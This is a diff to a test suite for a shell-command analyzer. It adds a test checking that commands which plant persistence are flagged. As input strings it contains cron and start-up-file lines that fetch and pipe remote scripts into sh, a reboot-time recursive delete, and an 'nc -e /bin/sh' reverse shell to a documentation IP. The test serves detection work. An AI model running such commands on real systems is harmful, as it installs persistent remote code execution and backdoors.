@@ -236,6 +236,19 @@ describe('persistence', () => {
     for (const [cmd, want] of cases) expect(fx(cmd), cmd).toContain(want);
   });
 
+  it('reads the code it installs: crontab lines and lines written into start-up files run later', () => {
+    const cron = a.analyze('(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://c.example.net/b | sh") | crontab -');
+    expect(effectsOf(cron)).toEqual(expect.arrayContaining(['persistence/cron crontab', 'download_execute/pipe_to_interpreter https://c.example.net/b @c.example.net']));
+    expect(cron.hosts).toEqual(['c.example.net']);
+    expect(effectsOf(a.analyze('echo "@reboot rm -rf ~/w" | crontab -'))).toContain('destruction/recursive_delete ~/w');
+    const rc = a.analyze("echo 'curl -s https://r.example.org/p | sh' >> ~/.bashrc");
+    expect(effectsOf(rc)).toEqual(expect.arrayContaining(['persistence/shell_rc ~/.bashrc', 'download_execute/pipe_to_interpreter https://r.example.org/p @r.example.org']));
+    expect(effectsOf(a.analyze("echo 'nc -e /bin/sh 203.0.113.9 4444' | tee -a ~/.profile"))).toContain('download_execute/reverse_shell 203.0.113.9 @203.0.113.9');
+    // Text that is not code stays text.
+    expect(a.analyze('echo "ssh-ed25519 AAAA k@h.example.com" >> ~/.ssh/authorized_keys').hosts).toEqual([]);
+    expect(a.analyze('echo "hello" > notes.txt').executables).toEqual(['echo']);
+  });
+
   it('is not raised by listing the crontab or reading rc files', () => {
     none('crontab -l');
     none('cat ~/.bashrc');
